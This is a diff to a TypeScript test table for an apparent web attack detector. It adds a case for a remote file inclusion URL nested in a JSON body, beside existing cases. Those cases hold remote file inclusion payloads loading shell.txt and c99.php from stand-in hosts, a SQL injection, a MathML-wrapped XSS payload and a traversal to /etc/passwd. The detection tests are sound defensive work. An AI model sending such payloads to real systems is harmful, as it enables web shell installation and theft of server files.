@@ -120,6 +120,7 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ['remote file inclusion: a URL ending in ?', get('/index.php?page=http://198.51.100.7/shell.txt?'), TRAVERSAL, 'query', 'page'],
   ['remote file inclusion: an include parameter given a URL of code', get('/index.php?page=http://evil.example/shell.txt'), TRAVERSAL, 'query', 'page'],
   ['remote file inclusion: a form field given an FTP URL of PHP', post('application/x-www-form-urlencoded', 'lang=ftp%3A%2F%2F203.0.113.9%2Fc99.php'), TRAVERSAL, 'body', 'lang'],
+  ['remote file inclusion: an include member nested in a JSON body', post('application/json', '{"options":{"page":"http://evil.example/shell.txt"}}'), TRAVERSAL, 'json', 'options.page'],
   ['sqli: a number OR TRUE', get('/item?id=1+OR+TRUE'), SQLI, 'query', 'id'],
   ['xss: markup inside a style element in MathML', get('/search?q=%3Cmath%3E%3Cmtext%3E%3Ctable%3E%3Cmglyph%3E%3Cstyle%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'), XSS, 'query', 'q'],
   ['path traversal in the path, encoded', get('/static/..%2f..%2f..%2f..%2fetc/passwd'), TRAVERSAL, 'path', ''],
